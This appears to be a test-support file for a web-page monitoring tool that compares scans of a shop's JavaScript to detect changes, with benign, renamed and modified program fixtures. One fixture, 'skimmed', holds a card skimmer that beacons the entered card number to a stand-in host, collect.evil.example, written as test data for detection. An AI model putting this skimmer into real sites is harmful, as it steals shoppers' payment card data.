// What the tests of comparisons share: scans of the watched page with the code that the test wants, and what they found changed.

import type { Profile } from '@tillwatch/contract/lists'
import type { Comparison } from '@tillwatch/contract/shapes'
import type { Capture } from '@tillwatch/core/capture'
import { beforeAll, beforeEach } from 'vitest'
import { type ComparisonContext, compareScan, getScanChanges, planComparison, queueComparison } from '#features/comparisons/index.ts'
import { recordFacts } from '#roles/scan-life.ts'
import { inOrder } from '../../support/context.ts'
import { document } from '../headers/answered-page.ts'
import { coded, owner, pageId, scan, test, watchPage } from '../inventory/watched-page.ts'

/** Ids of scans in the order queued for comparison. */
export const queued: string[] = []

/** In the product, the examination comes between. */
export const planAndQueue = inOrder(planComparison, (trx, scan) =>
  queueComparison(trx, scan, { enqueue: async (_db, scanId) => void queued.push(scanId) }),
)

/** Registers what the tests of the calling file need before and after them. */
export function comparePage(): void {
  watchPage()
  beforeAll(() => {
    test.context.onRecorded = inOrder(recordFacts, planAndQueue)
  })
  beforeEach(() => void queued.splice(0))
}

/** A scan that saw the shop's file with this code; its id. It is not compared yet. */
export function seen(code: string, { page = pageId, profile = 'desktop' as Profile, change = (_: Capture) => {} } = {}): Promise<string> {
  const answered = (capture: Capture) => {
    capture.documents = [{ ...document('F1', capture.page.finalUrl, { 'x-frame-options': 'DENY' }), base: null }]
    change(capture)
  }
  return scan([coded('https://shop.example/app.js', code)], answered, page, profile, { codes: [code] })
}

/** Compares what is queued, in order. */
export async function compareQueued(context: ComparisonContext = test.context): Promise<void> {
  for (const scanId of queued.splice(0)) await compareScan(context, scanId)
}

/** What a scan found changed; null where it is not compared. */
export const changesOf = async (scanId: string, actor = owner): Promise<Comparison | null> =>
  (await getScanChanges(test.context, actor, scanId)).comparison

/** The same, of a scan that saw this code, after comparing it. */
export async function comparedWith(code: string, options: Parameters<typeof seen>[1] = {}): Promise<Comparison> {
  const scanId = await seen(code, options)
  await compareQueued()
  const comparison = await changesOf(scanId)
  if (comparison === null) throw new Error('The scan was not compared.')
  return comparison
}

export const verdicts = ({ changes }: Comparison) => changes.map(({ kind, verdict }) => `${kind} ${verdict}`)

/** A small program of a shop. */
export const shop = `
const form = document.querySelector('form')
function total(lines, rate) {
  const net = lines.reduce((sum, line) => sum + line.price * line.count, 0)
  return Math.round(net * (1 + rate))
}
form.addEventListener('change', function update(event) {
  const out = document.querySelector('.total')
  out.textContent = total(readLines(event.currentTarget), 0.21).toFixed(2)
})
function readLines(root) {
  return Array.from(root.querySelectorAll('.line'), (row) => ({ price: Number(row.dataset.price), count: Number(row.dataset.count) }))
}
`
/** The same program as another build names it. */
export const renamed = `
const a=document.querySelector('form')
function b(c,d){const e=c.reduce((f,g)=>f+g.price*g.count,0);return Math.round(e*(1+d))}
a.addEventListener('change',function h(i){const j=document.querySelector('.total');j.textContent=b(k(i.currentTarget),0.21).toFixed(2)})
function k(l){return Array.from(l.querySelectorAll('.line'),m=>({price:Number(m.dataset.price),count:Number(m.dataset.count)}))}
`
/** The program with a step more that can do nothing to the page or its visitor. */
export const released = shop.replace(
  'return Math.round(net * (1 + rate))',
  'const weight = lines.reduce((sum, line) => sum + line.count, 0)\n  return Math.round((net + Math.max(0, weight - 3) * 0.5) * (1 + rate))',
)
/** The program with a skimmer behind it. */
export const skimmed = `${shop}
document.querySelector('#card-number').addEventListener('input', function (event) {
  navigator.sendBeacon('https://collect.evil.example/c', btoa(event.target.value))
})
`
/** Data that a page writes anew on each visit. */
export const state = (token: string) => `window.shopState={"token":"${token}","currency":"EUR"};`
